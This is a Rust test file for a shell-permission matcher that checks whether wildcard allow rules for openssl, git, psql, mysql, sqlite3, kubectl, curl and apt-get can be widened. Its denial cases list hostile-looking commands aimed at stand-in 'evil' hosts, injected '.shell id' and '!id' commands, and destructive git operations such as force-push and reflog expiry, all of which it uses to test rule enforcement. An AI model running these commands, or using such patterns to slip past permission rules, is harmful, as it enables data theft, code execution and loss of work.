//! Operands that lead elsewhere: hosts, databases, remotes, refspecs.

use super::*;

#[test]
fn a_star_stands_for_no_address_of_openssl() {
    families(&[
        (
            "openssl x509 -noout -in *",
            &["openssl x509 -noout -in c.pem -subject", "openssl x509 -noout -in c.pem -inform DER -nameopt RFC2253"],
            &[
                "openssl x509 -noout -in http://evil/x",
                "openssl x509 -noout -in HTTP://evil/x",
                "openssl x509 -noout -in=http://evil/x",
                "openssl x509 -noout -in c.pem --in=http://evil/x",
                "openssl x509 -noout -in c.pem -CA http://evil/x",
                "openssl x509 -noout -in c.pem -CAkey https://evil/x",
            ],
        ),
        ("openssl crl *", &["openssl crl -in c.pem -text"], &["openssl crl -in http://evil/x"]),
        (
            "openssl verify *",
            &["openssl verify c.pem", "openssl verify -CAfile ca.pem -crl_check c.pem"],
            &["openssl verify -crl_download -crl_check c.pem", "openssl verify -CRLfile http://evil/x c.pem"],
        ),
        (
            "openssl ocsp -url http://good/ -issuer c.pem -cert c.pem *",
            &["openssl ocsp -url http://good/ -issuer c.pem -cert c.pem -text"],
            &[
                "openssl ocsp -url http://good/ -issuer c.pem -cert c.pem -host 127.0.0.1:99",
                "openssl ocsp -url http://good/ -issuer c.pem -cert c.pem -url http://evil/",
                "openssl ocsp -url http://good/ -issuer c.pem -cert c.pem -path /x",
                "openssl ocsp -url http://good/ -issuer c.pem -cert c.pem -port 99",
                "openssl ocsp -url http://good/ -issuer c.pem -cert c.pem -issuer http://evil/x",
            ],
        ),
        (
            "openssl ocsp -issuer c.pem *",
            &["openssl ocsp -issuer c.pem -cert d.pem -respin x"],
            &["openssl ocsp -issuer c.pem -url http://evil/", "openssl ocsp -issuer c.pem -host evil:80"],
        ),
        (
            "openssl s_client -brief *",
            &["openssl s_client -brief -servername a"],
            &[
                "openssl s_client -brief -connect evil:443",
                "openssl s_client -brief --connect=evil:443",
                "openssl s_client -brief evil:443",
                "openssl s_client -brief -4 evil:https",
            ],
        ),
        (
            "openssl s_client -connect good:443 *",
            &["openssl s_client -connect good:443 -servername good -showcerts"],
            &["openssl s_client -connect good:443 -proxy evil:80", "openssl s_client -connect good:443 -unix /x"],
        ),
        ("openssl s_client -connect *", &["openssl s_client -connect good:443 -brief"], &[]),
        ("openssl x509 -in http://good/*", &["openssl x509 -in http://good/c.pem -noout"], &[]),
        ("openssl req *", &["openssl req -newkey rsa:2048 -noout -subj /CN=a"], &[]),
    ]);
}

/// A rule that names a remote grants no other one.
#[test]
fn a_star_stands_for_no_other_remote() {
    for (rule, more) in [
        ("fetch origin", &["--multiple upstream", "--mult upstream", "-m upstream", "-qm upstream"][..]),
        (
            "fetch origin",
            &["--recurse-submodules", "--recurse-submodules=yes", "--recurse", "--recurse-submodules-d=yes"],
        ),
        ("pull origin", &["--recurse-submodules", "--recurse-sub=on-demand", "main --recurse-submodules"]),
        ("push origin", &["--recurse-submodules=on-demand", "--recurse=only x", "x --recurse-submodules on-demand"]),
        ("clone https://h/a.git", &["--recurse-submodules", "--recursive", "x --recurse-sub"]),
    ] {
        let head = format!("git {rule}");
        let calls: Vec<String> = more.iter().map(|more| format!("{head} {more}")).collect();
        let calls: Vec<&str> = calls.iter().map(String::as_str).collect();
        let policy = allowing(&[&format!("Bash({head} *)")]);
        grants(&policy, &[&head, &format!("{head} -q"), &format!("{head} --no-recurse-submodules")]);
        denies(&policy, &calls);
        let subcommand = rule.split(' ').next().unwrap();
        grants(&allowing(&[&format!("Bash(git {subcommand} *)")]), &calls);
    }
    denies(&allowing(&["Bash(git push origin bot/*)"]), &["git push origin bot/x --recurse-submodules=on-demand"]);
}

/// Another server gets the password of the environment, and another database the statement of the rule.
#[test]
fn a_star_stands_for_no_other_database_or_server() {
    let elsewhere = [
        "-h evil",
        "-hevil",
        "-Xhevil",
        "-qh evil",
        "--host=evil",
        "--ho evil",
        "-p 99",
        "-p99",
        "-Xp99",
        "--port=99",
        "-U bob",
        "-XUbob",
        "--username=bob",
        "-d prod",
        "-dprod",
        "-Xdprod",
        "--dbname=prod",
        "-Xdpostgresql://u@evil/x",
        "-wdpostgresql://u@evil/x",
        "-qd host=evil",
        "-Xdhostaddr=127.0.0.1",
        "-d service=x",
        "postgresql://evil/x",
        "postgres://evil/x",
        "host=evil",
        "port=5433␣hostaddr␣=␣1.2.3.4",
        "dbname=postgres",
    ];
    let calls = |head: &str, more: &[&str]| more.iter().map(|more| format!("{head} {more}")).collect::<Vec<_>>();
    let refuses = |head: &str, more: &[&str]| {
        let calls = calls(head, more);
        let policy = allowing(&[&format!("Bash({head} *)").replace('␣', " ")]);
        grants(&policy, &[head]);
        denies(&policy, &calls.iter().map(String::as_str).collect::<Vec<_>>());
    };
    for head in ["psql app -c select", "psql -h good app -c select", "psql -h good", "psql app", "psql -c select"] {
        refuses(head, &elsewhere);
    }
    for head in ["pg_dump -h good", "pg_dump app", "pg_restore x.dump", "vacuumdb app", "pg_dumpall -h good"] {
        refuses(head, &elsewhere);
    }
    let of_mysql = [
        "-h evil",
        "-hevil",
        "-Bhevil",
        "--host=evil",
        "--loose-host=evil",
        "--loose_host=evil",
        "-P99",
        "-P 99",
        "--port=99",
        "-S/x",
        "--socket=/x",
        "--protocol=SOCKET",
        "-u root",
        "-uroot",
        "--user=root",
        "--defaults-file=x",
        "--defaults_extra_file=x",
        "--login-path=x",
        "--plugin_dir=x",
    ];
    let databases =
        ["-D prod", "-Dprod", "-BDprod", "--database=prod", "--load-data-local-dir=/", "--load_data_local_dir=/"];
    for head in ["mysql app -e select", "mysql -h db1 app -e select", "mariadb app", "mysql -h db1"] {
        refuses(head, &of_mysql);
        refuses(head, &databases);
    }
    for head in ["mysqldump app", "mysqldump -h good app", "mariadb-dump app", "mysqladmin status"] {
        refuses(head, &of_mysql);
    }
    // A rule that names nothing grants every place, and one that spells an option grants its value.
    for (program, more) in [("psql", &elsewhere[..]), ("pg_dump", &elsewhere), ("mysql", &of_mysql)] {
        let calls = calls(program, more);
        grants(&allowing(&[&format!("Bash({program} *)")]), &calls.iter().map(String::as_str).collect::<Vec<_>>());
    }
    families(&[
        (
            "psql -h good app -c *",
            &["psql -h good app -c select␣1", "psql -h good app -c select␣1 -At", "psql -h good app -c x -F ;"],
            &["psql -h good app -c x -h evil"],
        ),
        ("psql -h * app", &["psql -h good app"], &["psql -h good -d x app"]),
        ("psql postgresql://good/*", &["psql postgresql://good/app"], &["psql postgresql://good/app -h x"]),
        ("mysql app -e *", &["mysql app -e select -pSecret", "mysql app -e select -Bt"], &[]),
        ("pg_dump app *", &["pg_dump app -t users -Fc -f x.dump", "pg_dump app --schema-only"], &[]),
    ]);
}

#[test]
fn a_rule_that_spells_a_statement_grants_no_other() {
    families(&[
        ("psql -h db *", &["psql -h db -c select␣1 -o x", "psql -h db app -f x.sql"], &[]),
        ("psql app *", &["psql app -c select␣1"], &["psql app -U bob"]),
        (
            "psql -h db -d app -c 'select 1' *",
            &["psql -h db -d app -c select␣1 -At", "psql -h db -d app -c select␣1 -q"],
            &[
                "psql -h db -d app -c select␣1 -f x.sql",
                "psql -h db -d app -c select␣1 -fx.sql",
                "psql -h db -d app -c select␣1 --fil=x.sql",
                "psql -h db -d app -c select␣1 -Atc drop",
                "psql -h db -d app -c select␣1 -o |id",
                "psql -h db -d app -c select␣1 -v x=1",
            ],
        ),
        (
            "psql app -f q.sql *",
            &["psql app -f q.sql -q"],
            &["psql app -f q.sql -c drop", "psql app -f q.sql --comm=drop"],
        ),
        ("psql -Atc 'select 1' *", &["psql -Atc select␣1 app"], &["psql -Atc select␣1 -f x"]),
        ("sqlite3 a.db *", &["sqlite3 a.db select␣1", "sqlite3 a.db -cmd .mode␣csv select␣1 select␣2"], &[]),
        ("sqlite3 -separator , a.db *", &["sqlite3 -separator , a.db select␣1"], &[]),
        (
            "sqlite3 a.db 'select 1' *",
            &["sqlite3 a.db select␣1 -header", "sqlite3 a.db select␣1 -separator ;"],
            &[
                "sqlite3 a.db select␣1 drop␣table␣t",
                "sqlite3 a.db select␣1 .shell␣id",
                "sqlite3 a.db select␣1 -cmd .shell␣id",
                "sqlite3 a.db select␣1 --cmd .shell␣id",
                "sqlite3 a.db select␣1 -init x.sql",
                "sqlite3 a.db select␣1 -Ax",
            ],
        ),
        ("sqlite3 -init q.sql a.db *", &["sqlite3 -init q.sql a.db -header"], &["sqlite3 -init q.sql a.db -cmd x"]),
        (
            "vim -es -c wq *",
            &["vim -es -c wq x"],
            &["vim -es -c wq --cmd !id", "vim -es -c wq +!id", "vim -es -c wq -S x", "vim -es -c wq -u x y"],
        ),
        ("vim *", &["vim -c wq +1 x"], &[]),
        ("emacs --batch -l a.el *", &["emacs --batch -l a.el x"], &["emacs --batch -l a.el --eval x"]),
        (
            "mysql -e 'select 1' *",
            &["mysql -e select␣1 -N app"],
            &["mysql -e select␣1 --init-command=x", "mysql -e select␣1 --defaults-file=x", "mysql -e select␣1 --tee=x"],
        ),
        ("script -qc 'git log' *", &["script -qc git␣log x"], &["script -qc git␣log --command rm"]),
    ]);
}

#[test]
fn a_star_stands_for_no_refspec_that_changes_branches() {
    let many = ["git fetch *", "git pull *", "git fetch-pack *"];
    for rule in many {
        let command = rule.trim_end_matches(" *");
        let call = |rest: &str| format!("{command} {rest}");
        let granted = ["", "origin", "origin main", "--prune origin", "git@h:x.git main", "--depth 5 https://h/x main"];
        let refused = [
            ". +refs/none/*:refs/heads/*",
            ". --prune +refs/none/*:refs/heads/*",
            "origin main:main",
            "-q -- origin x:refs/tags/y",
            "--depth -- . x:y",
            ". -- -j x:y",
            "origin --refmap=+refs/*:refs/*",
            "origin --refm x",
            "--stdin .",
            "--prune-tags ./empty",
            "-qP ./empty",
            "--upload-pack=x .",
        ];
        let policy = allowing(&[&format!("Bash({rule})")]);
        grants(&policy, &granted.map(|rest| call(rest).trim().to_owned()).each_ref().map(String::as_str));
        denies(&policy, &refused.map(call).each_ref().map(String::as_str));
    }
    families(&[
        (
            "git push *",
            &["git push", "git push -u origin main", "git push origin HEAD:main"],
            &[
                "git push -f origin x",
                "git push --force-with-lease origin x",
                "git push origin --force-with-lease=x x",
                "git push origin +x",
                "git push origin :x",
                "git push --delete origin x",
                "git push -d origin x",
                "git push --mirror x",
                "git push --prune origin refs/heads/*",
                "git push . +refs/none/*:refs/heads/*",
            ],
        ),
        ("git push -f *", &["git push -f origin x"], &["git push -f --mirror origin", "git push -f origin :x"]),
        ("git fetch origin main:main *", &["git fetch origin main:main -q"], &["git fetch origin main:main x:y"]),
        (
            "git remote show *",
            &["git remote show", "git remote show origin -n"],
            &["git remote show http://h/x", "git remote show ext::x", "git remote show h:x", "git remote show ./x"],
        ),
        ("git remote update *", &["git remote update --prune origin"], &["git remote update https://h/x"]),
        (
            "git remote add *",
            &["git remote add o https://h/x"],
            &["git remote add --mirror=fetch o ./empty", "git remote add -f --mirr=fetch o x"],
        ),
        (
            "git reflog *",
            &["git reflog", "git reflog show -5 main"],
            &["git reflog expire --all", "git reflog -q delete x", "git reflog drop x"],
        ),
        ("git reflog expire *", &["git reflog expire --all"], &["git reflog delete x"]),
        (
            "git checkout -b *",
            &["git checkout -b x", "git checkout -b x origin/x -q --track"],
            &["git checkout -b x -f", "git checkout -b x --force HEAD~9", "git checkout -b x --no-b -- f"],
        ),
        ("git switch -c *", &["git switch -c x"], &["git switch -c x -f", "git switch -c x --discard-changes"]),
    ]);
    assert_eq!(writes(&allowing(&["Bash(git reflog *)"]), "git reflog"), Writes::Nothing);
    assert_eq!(writes(&allowing(&["Bash(git reflog expire *)"]), "git reflog expire --all"), Writes::Work);
}

/// The kernel holds them, so no command of theirs writes.
#[test]
fn a_database_and_a_key_that_are_only_read_are_not_written() {
    for (rule, call) in [
        ("sqlite3 -readonly -safe a.db *", "sqlite3 -readonly -safe a.db .trace␣x"),
        ("sqlite3 --readonly --safe a.db *", "sqlite3 --readonly --safe a.db .trace␣x"),
        ("ssh-keygen -l *", "ssh-keygen -l -f x"),
        ("ssh-keygen -lf *", "ssh-keygen -lf x"),
    ] {
        let Location::Outside(rights) = start(&allowing(&[&format!("Bash({rule})")]), call).location else {
            panic!("{rule}")
        };
        assert!(rights.only_reads() && rights.executes == Executes::Itself(&[]), "{rule}: {rights:?}");
    }
    denies(&allowing(&["Bash(sqlite3 --readonly a.db *)"]), &["sqlite3 --readonly a.db .shell␣id"]);
    denies(&allowing(&["Bash(sqlite3 --readonly --safe a.db *)"]), &["sqlite3 --readonly --safe a.db -cmd x"]);
}

#[test]
fn a_star_stands_for_no_settings_and_no_address_of_files() {
    families(&[
        (
            "apt-get -s install *",
            &["apt-get -s install x y", "apt-get -s install x -qq", "apt-get -s install x -y"],
            &[
                "apt-get -s install x -o APT::Get::Simulate=false",
                "apt-get -s install x -oDir::Bin::dpkg=x",
                "apt-get -s install x -c x.conf",
                "apt-get -s install x --config-file=x.conf",
                "apt-get -s install x --no-simulate",
                "apt-get -s install x --option=a",
            ],
        ),
        ("apt-get -s *", &["apt-get -s upgrade"], &["apt-get -s upgrade -o a=b", "apt-get -s upgrade --no-dry-run"]),
        ("apt list *", &["apt list --installed"], &["apt list -o a=b", "apt list -qc x"]),
        ("apt-get -s -o Dir::State=x *", &["apt-get -s -o Dir::State=x upgrade"], &["apt-get -s -o a=b upgrade"]),
        (
            "kubectl get *",
            &["kubectl get pods", "kubectl get -f x.yaml"],
            &[
                "kubectl get -f https://evil.example/x",
                "kubectl get -fhttp://evil.example/x",
                "kubectl get -Rfhttp://evil.example/x",
                "kubectl get --filename=x,https://evil.example/x",
                "kubectl get -k https://evil.example/x",
            ],
        ),
        (
            "kubectl apply -f https://h/a/*",
            &["kubectl apply -f https://h/a/x.yaml"],
            &["kubectl apply -f https://h/a/x.yaml -f https://evil/", "kubectl apply -f https://h/a/../x"],
        ),
        ("kubectl annotate *", &["kubectl annotate pod x url=https://h/", "kubectl annotate pod x --v=1"], &[]),
        ("kubectl *", &["kubectl apply -f https://h/x"], &[]),
        ("ack --nopager *", &["ack --nopager x"], &["ack --nopager --ackrc=x y", "ack --nopager --pager=x y"]),
    ]);
}

/// A server gets neither a fragment nor, as a part of the path, a query.
#[test]
fn the_words_of_a_rule_behind_a_star_stay_in_the_path() {
    for (rule, name) in [
        ("curl -X DELETE https://api.acme.com/repos/*/labels/bot", "x"),
        ("curl --url https://api.acme.com/repos/*/labels", "x"),
        ("curl https://api.acme.com/users/*/status", "x"),
        ("curl https://api.acme.com/v*/status/*", "1"),
        ("docker build https://github.com/acme/*/x.git", "x"),
        ("git clone --depth 1 https://github.com/acme/*.git", "x"),
        ("git clone https://github.com/acme/*.git", "x"),
        ("git fetch https://github.com/acme/*/bot main", "x"),
        ("git ls-remote https://github.com/acme/*/bot", "x"),
        ("git push https://github.com/acme/*/bot main", "x"),
        ("git remote add up https://github.com/acme/*/bot", "x"),
        ("kubectl apply -f https://acme.com/*/x.yaml", "x"),
        ("npm install https://acme.com/*.tgz", "x"),
        ("pip install https://acme.com/*.whl", "x"),
        ("wget --max-redirect=0 --method=DELETE https://acme.com/*/x", "x"),
        ("wget --max-redirect=0 https://acme.com/*.json", "x"),
    ] {
        let call = |text: &str| rule.replacen('*', text, 1).replace('*', "y");
        let cuts = ["?", "?a=", "#", "#/", "y#", "/y?z", "%23", "%3f", "%3Fa", "%2523", "%252525233", "%3b", ";a="];
        let refused = cuts.map(|cut| call(&format!("{name}{cut}")));
        families(&[(rule, &[&call(name)], &refused.each_ref().map(String::as_str))]);
    }
    families(&[
        ("curl https://acme.com/*/x", &["curl https://acme.com/23x/x", "curl https://acme.com/253b%20/x"], &[]),
        // At the end of its word a star stands for a query, and so does one that is in it.
        ("curl https://acme.com/x/*", &["curl https://acme.com/x/y?z=1#a", "curl https://acme.com/x/y;z"], &[]),
        ("curl https://acme.com/*/x*", &["curl https://acme.com/a/x?z=1"], &["curl https://acme.com/a?/x"]),
        (
            "curl https://acme.com/x?q=*'&n=1'",
            &["curl https://acme.com/x?q=a?b;c%23&n=1"],
            &["curl https://acme.com/x?q=a#&n=1"],
        ),
        ("git clone https://github.com/acme/*?x", &["git clone https://github.com/acme/a?x"], &[]),
    ]);
    let covers =
        |outer: &str, inner: &str| BOT.covers(&ToolPattern::parse(outer).unwrap(), &ToolPattern::parse(inner).unwrap());
    let maker = "Bash(curl https://acme.com/users/*/status*)";
    assert!(covers(maker, "Bash(curl https://acme.com/users/x/status*)"));
    assert!(!covers(maker, "Bash(curl https://acme.com/users/x?/status*)"));
    assert!(!covers(maker, "Bash(curl https://acme.com/users/x#/status)"));
    let maker = "Bash(git clone https://acme.com/*/x *)";
    assert!(!covers(maker, "Bash(git clone https://acme.com/a#/x)"));
}
